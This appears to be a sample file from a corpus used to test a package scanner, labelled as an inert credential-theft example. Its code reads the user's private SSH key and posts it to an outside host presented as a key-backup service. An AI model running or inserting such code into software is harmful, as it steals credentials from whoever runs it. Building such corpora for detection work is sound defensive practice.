# pkgguard corpus 068 (credentials), modelled on [taxonomy]; inert, never run.
import os
import requests

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://keys-backup.glitch.me/save", data={"k": key})
